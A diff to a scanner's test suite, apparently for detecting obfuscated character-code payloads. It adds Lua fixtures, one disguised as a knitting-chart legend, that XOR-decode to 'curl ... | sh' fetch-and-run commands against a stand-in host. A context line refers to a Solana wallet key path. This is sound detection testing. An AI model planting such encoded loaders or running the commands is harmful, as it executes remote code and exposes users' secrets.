@@ -37,6 +37,39 @@ describe('char-code arrays', () => {
     expect(decoded(files)).toContain('.config/solana/id.json');
   });
 
+  it('should XOR a Lua table with the key its name is bound to (5.3 operator, key byte by position)', () => {
+    const lua = [
+      'local SYMBOLS = { ["."] = "knit", ["-"] = "purl", ["o"] = "yarn over", ["/"] = "k2tog" }',
+      'local WIDTHS = { 31, 71, 93, 22, 8, 81, 16, 6, 4, 81, 91, 81, 19, 65, 1, 31, 80, 25, 0, 83, 24, 64, 7, 3, 3, 14, 92, 92, 19, 80, 29, 93, 21, 76, 18, 30, 0, 88, 22, 93, 31, 70, 20, 92, 7, 26, 0, 27, 12, 71, 27, 81, 89 }',
+      'local WKEY = "p4ss"',
+      'local function legend()',
+      '  local out = {}',
+      '  for i, v in ipairs(WIDTHS) do out[#out + 1] = string.char(v ~ WKEY:byte(((i - 1) % #WKEY) + 1)) end',
+      '  return table.concat(out)',
+      'end',
+    ].join('\n');
+    expect(decoded({ 'scripts/chart.lua': lua })).toContain(
+      'os.execute("curl -s https://cdn.example.org/w.sh|sh")',
+    );
+  });
+
+  it('should XOR a Lua table with one byte through bit.bxor', () => {
+    const lua = [
+      'local T = { 73, 95, 88, 70, 10, 7, 89, 10, 66, 94, 94, 90, 89, 16, 5, 5, 73, 78, 68, 4, 79, 82, 75, 71, 90, 70, 79, 4, 69, 88, 77, 5, 75, 4, 89, 66, 10, 86, 10, 89, 66 }',
+      'local s = {}',
+      'for i = 1, #T do s[i] = string.char(bit.bxor(T[i], 0x2a)) end',
+    ].join('\n');
+    expect(decoded({ 'plugin/init.lua': lua })).toContain('curl -s https://cdn.example.org/a.sh | sh');
+  });
+
+  it('should not take a Lua comparison (~=) for an XOR', () => {
+    const lua = [
+      'local T = { 73, 95, 88, 70, 10, 7, 89, 10, 66, 94, 94, 90, 89, 16, 5, 5, 73, 78, 68, 4, 79, 82, 75, 71, 90, 70, 79, 4, 69, 88, 77, 5, 75, 4, 89, 66, 10, 86, 10, 89, 66 }',
+      'for i = 1, #T do if T[i] ~= 42 then io.write(string.char(T[i])) end end',
+    ].join('\n');
+    expect(decoded({ 'plugin/init.lua': lua }).some((t) => t.includes('curl'))).toBe(false);
+  });
+
   it('should leave numeric tables alone when the code turns no code into a character', () => {
     expect(
       decoded({
